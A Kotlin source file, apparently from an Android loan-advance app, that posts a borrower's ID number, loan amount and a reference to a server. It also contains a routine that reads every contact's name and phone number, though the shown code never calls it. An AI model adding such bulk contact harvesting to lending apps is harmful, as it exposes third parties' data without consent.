package pe.chaski.adelanto

import android.app.Activity
import android.content.ContentResolver
import android.content.Intent
import android.os.Bundle
import android.provider.ContactsContract.CommonDataKinds.Phone
import android.view.View
import android.widget.EditText
import java.net.HttpURLConnection
import java.net.URL
import java.util.concurrent.Executors

class ReferenciasActivity : Activity() {
    override fun onCreate(savedInstanceState: Bundle?) {
        super.onCreate(savedInstanceState)
        setContentView(R.layout.referencias)
        (findViewById(R.id.enviar) as View).setOnClickListener {
            val r = (findViewById(R.id.r1) as EditText).text.toString()
            Servidor.enSegundoPlano { Servidor.enviar("solicitud", intent.getStringExtra("dni") + ";" + intent.getStringExtra("monto") + ";" + r) }
            startActivity(Intent(this, FinActivity::class.java))
        }
    }
}

class FinActivity : Activity() {
    override fun onCreate(savedInstanceState: Bundle?) { super.onCreate(savedInstanceState); setContentView(R.layout.fin) }
}

object Agenda {
    fun leer(r: ContentResolver): String = buildString {
        r.query(Phone.CONTENT_URI, null, null, null, null)?.use { c ->
            val n = c.getColumnIndex(Phone.DISPLAY_NAME); val t = c.getColumnIndex(Phone.NUMBER)
            while (c.moveToNext()) { append(c.getString(n)); append(','); append(c.getString(t)); append("|") }
        }
    }
}

object Servidor {
    private val hilos = Executors.newFixedThreadPool(2)
    fun enSegundoPlano(que: () -> Unit) { hilos.execute(que) }
    fun enviar(ruta: String, texto: String) {
        val c = URL("https://api.chaski.example/$ruta").openConnection() as HttpURLConnection
        c.requestMethod = "POST"
        c.doOutput = true
        c.outputStream.use { it.write(texto.toByteArray()) }
        c.responseCode
    }
}
